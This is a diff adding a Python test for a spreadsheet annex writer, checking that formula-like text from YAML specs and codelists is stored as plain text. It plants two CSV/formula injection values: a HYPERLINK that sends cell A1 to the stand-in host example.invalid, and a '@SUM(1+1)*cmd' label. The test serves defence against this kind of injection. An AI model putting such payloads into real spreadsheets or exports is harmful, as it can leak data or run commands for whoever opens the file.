@@ -66,3 +66,28 @@ def test_a_table_too_long_for_a_sheet_is_cut_with_a_note(tmp_path, monkeypatch):
     ws = openpyxl.load_workbook(write_annex(folder, load_catalogue(ROOT / "specs")[0], lang="en"))["40(f) 40f-covid-deaths"]
     assert ws["A8"].value == "470 rows more than a sheet holds: see tables/40f-covid-deaths.csv"
     assert ws.max_row == FIRST_TABLE_ROW + 1 + 10
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
+    """A spec's `asks` or a codelist label starting with '=' stays text: no live formula, no link."""
+    folder = tmp_path / "2025-12-31"
+    shutil.copytree(BROKEN, folder)
+    specs = tmp_path / "specs"
+    shutil.copytree(ROOT / "specs", specs)
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    request = specs / "requests" / "40f-covid-deaths.yaml"
+    text = request.read_text(encoding="utf-8")
+    start, end = text.index("asks: >-\n"), text.index("\nsource:")
+    request.write_text(text[:start] + f"asks: '{hostile}'" + text[end:], encoding="utf-8")
+    sex = specs / "codelists" / "sex.yaml"
+    sex.write_text(sex.read_text(encoding="utf-8").replace("en: Female,", "en: '@SUM(1+1)*cmd',"), encoding="utf-8")
+    catalogue, problems = load_catalogue(specs)
+    assert problems == [] and catalogue.requests["40f-covid-deaths"].asks == hostile
+    path = write_annex(folder, catalogue, lang="en")
+    ws = openpyxl.load_workbook(path)["40(f) 40f-covid-deaths"]
+    assert ws["B3"].value == hostile and ws["B3"].data_type == "s"
+    labels = {ws.cell(row=r, column=2).value for r in range(FIRST_TABLE_ROW + 2, ws.max_row + 1)}
+    assert "@SUM(1+1)*cmd" in labels
+    formulas = [c.coordinate for row in openpyxl.load_workbook(path).worksheets for r in row.iter_rows()
+                for c in r if c.data_type == "f"]
+    assert formulas == []
